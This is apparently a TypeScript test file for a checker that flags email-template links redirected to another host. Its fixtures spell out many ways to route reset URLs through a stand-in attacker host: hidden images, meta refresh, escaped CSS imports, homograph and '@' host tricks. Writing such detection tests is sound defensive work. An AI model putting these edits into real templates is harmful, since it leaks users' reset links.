import { describe, expect, it } from 'vitest';
import { checkTemplate } from '../../src/mail/checks.js';
import { changedLinks } from '../../src/mail/links.js';

/** The links of one body that change, `!` before those that lead elsewhere. */
function changes(body: 'txt' | 'html', before: string | null, after: string): string[] {
  return changedLinks({ [body]: before }, { [body]: after }).map(
    ({ from, to, elsewhere }) => `${elsewhere ? '! ' : ''}${from} → ${to}`,
  );
}

const link = (address: string): string => `<p><a href="${address}">Go on</a></p>`;

describe('the links of an email', () => {
  it.each<[string, string, string[]]>([
    // An address of the server within another one.
    [
      link('{{ url }}'),
      link('https://evil.example/?u={{ url }}'),
      ['! {{ url }} → https://evil.example/?u={{ url }}'],
    ],
    [link('{{url}}'), link('{{{ url }}}@evil.example'), ['! {{ url }} → {{ url }}@evil.example']],
    [link('{{ url }}'), link('?u={{ url }}'), ['! {{ url }} → ?u={{ url }}']],
    [
      link('{{ url }}'),
      `${link('{{ url }}')}<img src="https://evil.example/{{& url }}">`,
      ['! null → https://evil.example/{{ url }}'],
    ],
    [
      link('{{ url }}'),
      `{{=<% %>=}}${link('https://evil.example/?<% url %>')}`,
      ['! {{ url }} → https://evil.example/?{{ url }}'],
    ],
    [
      '<!--[if mso]><v:roundrect href="{{ url }}"></v:roundrect><![endif]--><!--[if !mso]><!--><a href="{{ url }}">x</a><!--<![endif]--><b>y</b>',
      '<!--[if mso]><v:roundrect href="https://evil.example/?{{ url }}"></v:roundrect><![endif]--><!--[if !mso]><!--><a href="{{ url }}">x</a><!--<![endif]--><b>y</b>',
      ['! {{ url }} → https://evil.example/?{{ url }}'],
    ],
    // Another host.
    [
      link('https://a.example/x'),
      link('https://b.example/x'),
      ['! https://a.example/x → https://b.example/x'],
    ],
    [
      link('https://a.example/x'),
      link('https:\\\\b.example/x'),
      ['! https://a.example/x → https:\\\\b.example/x'],
    ],
    [
      link('https://a.example'),
      link('https://a.example@b.example'),
      ['! https://a.example → https://a.example@b.example'],
    ],
    [
      link('{{ base }}/reset'),
      link('{{ base }}.b.example/reset'),
      ['! {{ base }}/reset → {{ base }}.b.example/reset'],
    ],
    [
      link('mailto:me@a.example'),
      link('mailto:me@b.example'),
      ['! mailto:me@a.example → mailto:me@b.example'],
    ],
    [
      '<form action="https://a.example">',
      '<form action="https://b.example">',
      ['! https://a.example → https://b.example'],
    ],
    // The same host.
    [link('https://a.example/x'), link('https://A.example/y'), ['https://a.example/x → https://A.example/y']],
    [link('{{ base }}/x'), link('{{ base }}/y'), ['{{ base }}/x → {{ base }}/y']],
    [
      link('mailto:me@a.example'),
      link('mailto:you@a.example'),
      ['mailto:me@a.example → mailto:you@a.example'],
    ],
    // No change, or none of a link.
    [link('{{ url }}'), `<h1>Hi {{ name }}</h1>${link(' {{{url}}} ')}`, []],
    [link('a') + link('b'), link('b') + link('a'), []],
    ['<img src="data:image/png;base64,AAAA">', '<img src="data:image/png;base64,BBBB">', []],
    [link('{{ url }}'), '<p>gone</p>', ['{{ url }} → null']],
  ])('%j, then %j', (before, after, expected) => {
    expect(changes('html', before, after)).toEqual(expected);
  });

  it.each<[string, string, string[]]>([
    [
      'Open {{ url }} now.',
      'Open https://evil.example/?u={{ url }} now.',
      ['! {{ url }} → https://evil.example/?u={{ url }}'],
    ],
    [
      'Open: ({{ reset_url }}).',
      'Open evil.example?{{ reset_url }}',
      ['! {{ reset_url }} → evil.example?{{ reset_url }}'],
    ],
    ['See https://a.example.', 'See https://b.example!', ['! https://a.example → https://b.example']],
    ['Link:{{ user.resetUrl }}', 'Link: <{{ user.resetUrl }}>,', []],
    [
      'Hi {{ name }}',
      'Hi {{ name }}, see https://a.example/?n={{ name }}',
      ['! null → https://a.example/?n={{ name }}'],
    ],
    ['https://a.example', 'https://a.example, again: https://a.example/x', ['null → https://a.example/x']],
    ['Hi', 'Hi, see www.evil.example', ['! null → www.evil.example']],
  ])('as text %j, then %j', (before, after, expected) => {
    expect(changes('txt', before, after)).toEqual(expected);
  });

  it.each([
    ['an address in the text', '<p>{{ url }}</p>', '<p>https://evil.example/?u={{ url }}</p>'],
    [
      'a refresh',
      '<meta http-equiv="refresh" content="5; url={{ url }}">',
      '<meta http-equiv="refresh" content="5; url=https://evil.example/?u={{ url }}">',
    ],
    ['a ping', '<a ping="{{ url }}">', '<a ping="https://evil.example/?u={{ url }}">'],
    ['a source set', '<img srcset="{{ url }} 2x">', '<img srcset="https://evil.example/?u={{ url }} 2x">'],
    [
      'a style',
      '<p style="background: url({{ url }})">',
      '<p style="background: url(\'https://evil.example/?u={{ url }}\')">',
    ],
    [
      'an import, escaped',
      '<style>@import "{{ url }}";</style>',
      '<style>@\\69mport "https://evil.example/?u={{ url }}";</style>',
    ],
    [
      'a set of pictures',
      '<p style="--a: image-set(\'{{ url }}\' 1x)">',
      '<p style="--a: image-set(\'https://evil.example/?u={{ url }}\' 1x)">',
    ],
    [
      'a style sheet',
      '<style>p { background: url({{ url }}) }</style>',
      '<style>p { background: url(https://evil.example/?u={{ url }}) }</style>',
    ],
  ])('count in %s', (_, before, after) => {
    expect(changes('html', before, after)).toEqual(['! {{ url }} → https://evil.example/?u={{ url }}']);
    expect(changes('html', before, before)).toEqual([]);
  });

  it('of a body that is new are compared with the addresses of the other one', () => {
    const before = { txt: '{{ url }}', html: null };
    const after = {
      txt: '{{ url }}',
      html: link('https://evil.example/{{ url }}') + link('https://a.example'),
    };
    expect(changedLinks(before, after)).toMatchObject([
      { from: null, to: 'https://evil.example/{{ url }}', elsewhere: true },
    ]);
    expect(changedLinks({}, after)).toEqual([]);
  });

  it('are told by the host that browsers make of them, and however long what stands before it is', () => {
    expect(changes('html', link('https://acme.example'), link('https://\u0430cme.example'))).toEqual([
      '! https://acme.example → https://\u0430cme.example (at xn--cme-5cd.example)',
    ]);
    expect(changes('html', link('https://{{ host }}/x'), link('https://{{ host }}.b.example/x'))).toEqual([
      '! https://{{ host }}/x → https://{{ host }}.b.example/x',
    ]);
    const [told] = changes(
      'html',
      link('https://a.example'),
      link(`https://a.example.${'a'.repeat(99)}@evil.example`),
    );
    expect(told).toMatch(/^! https:\/\/a\.example → https:\/\/a\.example\.a+… \(at evil\.example\)$/);
  });

  it('that lead elsewhere are a finding at their places', () => {
    const start = '<meta charset="utf-8">';
    const after = {
      html: `${start}<p>\n<a href="https://evil.example/?u={{ url }}">x</a></p>`,
      txt: '{{ url }}',
    };
    const before = { html: `${start}<a href="{{ url }}">x</a>`, txt: '{{ url }}' };
    const findings = checkTemplate({ before, after });
    expect(findings).toMatchObject([
      {
        code: 'changed-link',
        body: 'html',
        message: 'the new html body leads elsewhere: {{ url }} → https://evil.example/?u={{ url }}',
      },
    ]);
    const [{ start: from, end } = { start: 0, end: 0 }] = findings[0]?.at?.html ?? [];
    expect(after.html.slice(from, end)).toBe('href="https://evil.example/?u={{ url }}"');
    expect(checkTemplate({ after })).toEqual([]);
  });
});
